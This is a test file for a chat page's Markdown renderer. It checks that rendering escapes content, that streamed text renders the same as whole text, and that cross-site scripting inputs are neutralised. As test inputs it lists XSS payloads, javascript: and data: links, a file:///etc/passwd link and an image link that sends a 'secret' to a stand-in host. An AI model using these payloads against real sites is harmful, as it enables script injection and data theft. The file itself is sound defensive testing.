/** What Markdown becomes, that nothing in it acts, and that reading it piece by piece gives the same. */
import { describe, expect, test } from 'bun:test';
import fc from 'fast-check';
import { GrowingBlocks } from '#src/pages/chat/blocks.ts';
import { Highlighter } from '#src/pages/chat/highlight.ts';
import { blockMarkup, blocksOf } from '#src/pages/chat/markdown.ts';

const plain = () => null;
const markup = (text: string) =>
  blocksOf(text)
    .map((block) => blockMarkup(block, plain))
    .join('');

test.each([
  ['two\nlines', '<p>two\nlines</p>'],
  ['# A *b*', '<h3 data-level="1">A <em>b</em></h3>'],
  ['**a** ~~b~~ `c<d`', '<p><strong>a</strong> <del>b</del> <code>c&lt;d</code></p>'],
  ['- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
  ['3. a', '<ol start="3"><li>a</li></ol>'],
  ['> q', '<blockquote><p>q</p></blockquote>'],
  ['a &amp; &lt;b&gt;', '<p>a &amp; &lt;b&gt;</p>'],
  ['a \\* b', '<p>a * b</p>'],
  ['- [x] done', '<ul><li>☑ done</li></ul>'],
  ['---', '<hr />'],
])('%s', (text, expected) => {
  expect(markup(text)).toBe(expected);
});

test('code is text with its language, also while its end has not come', () => {
  expect(markup('```ts\nconst a = "<b>";')).toContain('<span>ts</span>');
  expect(markup('```ts\nconst a = "<b>";')).toContain('<pre><code>const a = &quot;&lt;b&gt;&quot;;</code></pre>');
});

test('code is coloured once the grammars are there, and still escaped', async () => {
  const highlighter = new Highlighter();
  expect(highlighter.markup('const a = 1', 'ts')).toBeNull();
  await highlighter.ready();
  expect(highlighter.markup('const a = "<img>"', 'ts')).toBe(
    '<span class="hljs-keyword">const</span> a = <span class="hljs-string">&quot;&lt;img&gt;&quot;</span>',
  );
  for (const language of ['python', 'c++', 'sh', 'yml', 'json']) {
    expect([language, highlighter.markup('a', language)]).not.toEqual([language, null]);
  }
  expect([highlighter.markup('a', 'no-such'), highlighter.markup('x'.repeat(50_000), 'ts')]).toEqual([null, null]);
});

describe('S-27, S-32: nothing acts and nothing is fetched', () => {
  const ELEMENTS = 'p|h[3-6]|strong|em|del|code|pre|ul|ol|li|blockquote|hr|br|table|thead|tbody|tr|th|td';
  const OURS = 'figure|figcaption|span|div|button|a';
  const ATTRIBUTES = 'class|type|data-copies|data-level|data-align|start|tabindex|role|aria-label|href|target|rel';
  const ALLOWED = new RegExp(`^(?:</?(?:${ELEMENTS}|${OURS})(?: (?:${ATTRIBUTES})="[^"<>]*")* ?/?>|[^<>])*$`);

  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:x) [y](file:///etc/passwd) [z](//evil/)',
    '![x](http://evil/?q=secret)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '[x](http://a/" onclick="alert(1))',
    '[x](<http://a/ " onclick=alert(1)>)',
    '<http://a/"onclick=alert(1)>',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '`</code><script>alert(1)</script>`',
    '|<b>|\n|-|\n|<img onerror=alert(1)>|',
    '<div hx-get="/x" hx-trigger="load" x-data="{}" x-init="alert(1)">',
    '<hx-partial hx-target="#live">x</hx-partial>',
    '<template hx type="partial">',
    '[a]: javascript:alert(1)\n[a]',
    '<!-- --><style>*{}</style><iframe srcdoc=x>',
    '{{ constructor.constructor("alert(1)")() }}',
    '<a href="javascript:alert(1)">x</a>',
    `${'> '.repeat(3000)}deep`,
    `${'['.repeat(2000)}x`,
    `${'*'.repeat(3000)}a`,
  ])('%s', (text) => {
    const made = markup(text);
    expect(made).toMatch(ALLOWED);
    for (const [, href] of made.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(?:https?:|mailto:)/);
    expect(made).not.toMatch(/<img/);
  });

  test('whatever the text', () => {
    const pieces = [
      '<',
      '>',
      '"',
      "'",
      '&',
      '`',
      '*',
      '_',
      '[',
      ']',
      '(',
      ')',
      '!',
      'javascript:',
      'http://a',
      '\n',
      '|',
      '-',
      ' ',
      '#',
      'x',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), (parts) =>
        ALLOWED.test(markup(parts.join(''))),
      ),
      { numRuns: 1000 },
    );
  });
});

describe('a growing text', () => {
  const DOCUMENT = [
    '# Title\n\nA paragraph\nof two lines.\n\n- one\n- two\n\n  more of two\n',
    '\n```ts\nconst a = 1;\n\nconst b = 2;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nlast *words*\n\n\n> quote\n> on\n\n1. x\n2. y\r\n\r\nend\n===\n',
  ].join('');

  test('gives the same blocks as the whole, however it is cut', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 30 }), { minLength: 5, maxLength: 60 }), (steps) => {
        const growing = new GrowingBlocks(plain);
        let at = 0;
        for (const step of steps) {
          at = Math.min(DOCUMENT.length, at + step);
          growing.update(DOCUMENT.slice(0, at));
        }
        growing.update(DOCUMENT);
        const whole = new GrowingBlocks(plain);
        whole.update(DOCUMENT);
        expect(growing.blocks.join('')).toBe(whole.blocks.join(''));
        expect(growing.blocks.join('')).toBe(markup(DOCUMENT.replaceAll('\r\n', '\n')));
      }),
      { numRuns: 300 },
    );
  });

  test('says from which block on it changed', () => {
    const growing = new GrowingBlocks(plain);
    expect(growing.update('one')).toBe(0);
    expect(growing.update('one\n\ntwo')).toBe(0);
    expect(growing.blocks).toEqual(['<p>one</p>', '<p>two</p>']);
    expect(growing.update('one\n\ntwo and')).toBe(1);
    expect(growing.update('one\n\ntwo and')).toBe(2);
    expect(growing.update('one\n\ntwo and\n\nthree')).toBe(1);
  });

  test('that is one endless paragraph is not read again for each word', () => {
    const growing = new GrowingBlocks(plain);
    const text = 'Some words of max_tokens and such, without an end. '.repeat(2000);
    const startMs = performance.now();
    for (let at = 0; at <= text.length; at += 50) growing.update(text.slice(0, at));
    expect(performance.now() - startMs).toBeLessThan(6000);
    expect(growing.blocks[0]?.length).toBeGreaterThan(text.length * 0.9);
  });

  test('costs what is new in it', () => {
    const growing = new GrowingBlocks(plain);
    const text = 'A paragraph of some words that a model writes.\n\n'.repeat(2000);
    const startMs = performance.now();
    for (let at = 0; at <= text.length; at += 100) growing.update(text.slice(0, at));
    expect(performance.now() - startMs).toBeLessThan(6000);
  });
});
